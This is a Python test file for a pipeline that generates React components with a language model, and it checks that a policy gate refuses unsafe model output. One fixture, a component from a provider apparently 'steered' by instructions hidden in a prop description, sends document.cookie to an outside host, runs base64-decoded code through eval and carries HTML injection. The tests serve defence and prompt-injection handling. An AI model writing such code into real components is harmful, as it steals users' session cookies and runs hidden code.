"""generate_code replaces a provider's code that the code gate refuses with the template's
(counting each finding), or fails the job when it asked for model code only; a result
with a finding is never cacheable; validate_quality fails code that breaks the policy."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from prometheus_client import REGISTRY

from config.settings import get_settings
from core.errors import CodeRefused
from core.requirements import Requirements
from core.spec import JobSpec
from workers.chain.providers.template import TemplateProvider
from workers.chain.quality import code_gate
from workers.chain.quality.typecheck import TypeChecker
from workers.chain.steps import STEPS, GenerateCode, ValidateQuality, cacheable
from workers.chain.types import ChainContext, GeneratedCode

STEERED = """import React from "react";

export interface LeakyButtonProps { label: string; }

export function LeakyButton({ label }: LeakyButtonProps): React.ReactElement {
  fetch("https://x/?c=" + document.cookie);
  eval(atob("YWxlcnQoMSk="));
  return <button type="button" aria-label="<i>x</i>">{label}</button>;
}

export default LeakyButton;
"""


class SteeredProvider:
    """A provider whose model followed instructions hidden in a prop description."""

    name = "steered"
    model = "m"

    def propose_requirements(self, ctx: ChainContext) -> Requirements:
        raise AssertionError("requirements are given")

    def generate_code(self, ctx: ChainContext) -> GeneratedCode:
        stories = 'import { LeakyButton } from "./component";\nimport x from "<b>evil</b>";\n'
        return GeneratedCode(STEERED, stories)


CLEAN = """import React from "react";

export interface LeakyButtonProps { label: string; }

export function LeakyButton({ label }: LeakyButtonProps): React.ReactElement {
  return <button type="button">{label}</button>;
}

export default LeakyButton;
"""


CLEAN_STORIES = """import { LeakyButton } from "./component";
export default { component: LeakyButton };
"""


class CleanProvider(SteeredProvider):
    """A model whose code the policy allows."""

    def generate_code(self, ctx: ChainContext) -> GeneratedCode:
        return GeneratedCode(CLEAN, CLEAN_STORIES)


def spec(**options: Any) -> JobSpec:
    return JobSpec.model_validate(
        {
            "component_name": "LeakyButton",
            "component_type": "button",
            "source": {"figma_file_key": "k"},
            "tokens": {"colors": {"primary": "#2563eb"}},
            "requirements": {"props": [{"name": "label", "type": "string", "required": True}]},
            "options": options,
        }
    )


def violations(rule: str) -> float:
    return REGISTRY.get_sample_value("code_policy_violations_total", {"rule": rule}) or 0.0


def run_steps(provider: object, **options: Any) -> ChainContext:
    ctx = ChainContext(spec=spec(**options))
    for step in STEPS:
        step.run(ctx, provider)  # type: ignore[arg-type]
    return ctx


def test_steered_code_is_replaced_by_the_template_and_counted() -> None:
    rules = ("network", "document", "eval", "decoder", "import")
    before = {rule: violations(rule) for rule in rules}

    ctx = run_steps(SteeredProvider())

    assert ctx.code is not None and "document.cookie" not in ctx.code.component_tsx
    assert "const tokenStyle = {" in ctx.code.component_tsx  # the template's
    assert {rule: violations(rule) - n for rule, n in before.items()} == {
        "network": 1, "document": 1, "eval": 1, "decoder": 1, "import": 1}  # fmt: skip
    policy = ctx.quality["policy"]
    assert policy["action"] == "fell back to the template"
    assert {f["rule"] for f in policy["findings"]} == set(rules)
    assert policy["final_findings"] == []
    assert ctx.quality["passed"] is True
    assert any("was refused" in note for note in ctx.notes)
    assert not cacheable(ctx.quality)  # a result the refused code led to is not reused
    assert "<h2>Code policy</h2>" in ctx.report_html
    assert "fell back to the template" in ctx.report_html
    assert "&lt;b&gt;evil&lt;/b&gt;" in ctx.report_html and "<b>evil" not in ctx.report_html


def test_clean_code_from_a_provider_is_kept() -> None:
    ctx = ChainContext(spec=spec())
    for step in STEPS[:3]:
        step.run(ctx, TemplateProvider())
    GenerateCode().run(ctx, TemplateProvider())
    assert ctx.code_policy == {}


def test_final_code_that_breaks_the_policy_fails_the_quality_gate() -> None:
    ctx = run_steps(TemplateProvider())
    assert ctx.quality["passed"] is True and ctx.code is not None
    bad = ctx.code.component_tsx.replace(
        "React.ReactElement {", 'React.ReactElement {\n  localStorage.setItem("k", "<v>");', 1
    )
    ctx.code = GeneratedCode(bad, ctx.code.stories_tsx)

    ValidateQuality().run(ctx, TemplateProvider())

    assert ctx.quality["passed"] is False
    [check] = [c for c in ctx.quality["checks"] if c["name"].startswith("policy: ")]
    assert check["name"] == "policy: storage" and check["passed"] is False
    assert [f["rule"] for f in ctx.quality["policy"]["final_findings"]] == ["storage"]
    assert "policy: storage" in ctx.report_html


def test_a_job_that_asked_for_model_code_only_fails_with_the_findings() -> None:
    with pytest.raises(CodeRefused) as refused:
        run_steps(SteeredProvider(), refused_code="fail")
    message = str(refused.value)
    assert "steered's code was refused" in message and "network" in message
    assert 'options.refused_code "template"' in message  # what to do next


def test_model_code_that_could_not_be_rendered_is_not_shipped(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # Given no Node.js checker at all, and the render required (the default)
    missing = TypeChecker(Path("/nonexistent/componentforge-tsc"), timeout_s=5)
    monkeypatch.setattr(code_gate, "checker", lambda: missing)
    code_gate.forget()  # verdicts of the real checker, earlier in this process
    assert get_settings().render_required

    ctx = run_steps(CleanProvider())

    [finding] = ctx.quality["policy"]["findings"]
    assert finding["rule"] == "render-unavailable"
    assert ctx.code is not None and ctx.code.component_tsx != CLEAN
    assert not cacheable(ctx.quality)


def test_the_template_result_is_cacheable() -> None:
    ctx = run_steps(TemplateProvider())
    assert ctx.quality["passed"] and cacheable(ctx.quality)
